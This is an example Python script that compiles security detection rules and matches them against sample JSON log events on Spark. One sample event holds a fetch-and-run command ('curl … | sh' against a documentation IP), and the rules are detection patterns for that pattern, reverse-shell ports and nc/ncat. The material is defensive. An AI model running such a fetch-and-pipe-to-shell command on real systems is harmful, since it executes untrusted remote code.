"""Detection rules over log events on Spark: networks, regular expressions, thresholds, lists.

    python examples/security_alerts.py

The events are JSON documents, as log shippers send them. For faulty rules you see the position of
the mistake and a hint. The other rules work without them.
"""

import json

from pyspark.sql.functions import col, from_json

from tamis.spark import Index, match, session_builder

RULES = [
    (1, "high", "event = 'login' and attempts >= 5 and not source.ip in cidr '10.0.0.0/8'"),
    (2, "high", r"process.command matches r'curl\s+\S+\s*\|\s*(ba)?sh\b'"),
    (3, "medium", "user in ('root', 'admin') ignoring case and source.ip in cidr '203.0.113.0/24'"),
    # A single connection must satisfy both conditions.
    (4, "high", "connections.port in (4444, 31337) and connections.direction = 'in'"),
    (5, "medium", "bytes_out > 1000000000 and not tags contains 'backup'"),
    (6, "low", "tags contains 'tor-exit' or source.country in ('XX', 'T1')"),
    # Three mistakes.
    (7, "low", "attempts => 5"),
    (8, "low", "source.ip in cidr '10.0.0.0/33'"),
    (9, "low", "process.command matches r'(nc|ncat'"),
]
EVENTS = [
    {
        "event": "login",
        "attempts": 12,
        "user": "Admin",
        "source": {"ip": "203.0.113.7", "country": "XX"},
    },
    {"event": "login", "attempts": 9, "source": {"ip": "10.1.2.3"}},
    {"event": "process", "process": {"command": "curl http://203.0.113.9/x | sh"}},
    {"event": "process", "process": {"command": "curl -o page.html https://example.org"}},
    {
        "event": "listen",
        "connections": [{"port": 4444, "direction": "out"}, {"port": 443, "direction": "in"}],
    },
    {
        "event": "listen",
        "connections": [{"port": 31337, "direction": "in"}, {"port": 443, "direction": "in"}],
    },
    {"event": "flow", "bytes_out": 7_300_000_000, "tags": ["nightly", "backup"]},
    {"event": "flow", "bytes_out": 2_100_000_000, "tags": []},
]

spark = session_builder("local[2]").config("spark.ui.showConsoleProgress", "false").getOrCreate()
spark.sparkContext.setLogLevel("ERROR")

# Compile the rules once. Ids may be integers or strings.

rules = spark.createDataFrame(RULES, "id int, severity string, subscription string")
index = Index.of(rules, columns=["severity"])
print(f"{index}\n")
for row in index.rejected.to_pylist():
    print(f"rule {row['id']} was rejected: {row['error']}\n")

# Match events in a single column of JSON.

lines = [(f"event-{number}", json.dumps(event)) for number, event in enumerate(EVENTS)]
logs = spark.createDataFrame(lines, "id string, raw string")
alerts = match(logs, index, column="raw", subscription_columns=["severity"])
print("Alerts:")
alerts.orderBy("event_id", "subscription_id").show(truncate=False)

# Turn the JSON into columns, which is faster: columns do not become Python objects.

SCHEMA = (
    "event string, attempts long, user string, bytes_out long, "
    "source struct<ip string, country string>, process struct<command string>, "
    "connections array<struct<port int, direction string>>, tags array<string>"
)
typed = logs.select("id", from_json(col("raw"), SCHEMA).alias("e")).select("id", "e.*")
same = match(typed, index, subscription_columns=["severity"])
print("The columns give the same alerts:", sorted(same.collect()) == sorted(alerts.collect()))

# Explain why a rule did not fire.

print("\nWhy rule 4 does not match event-4:")
print(index.engine.explain("4", EVENTS[4]))
spark.stop()
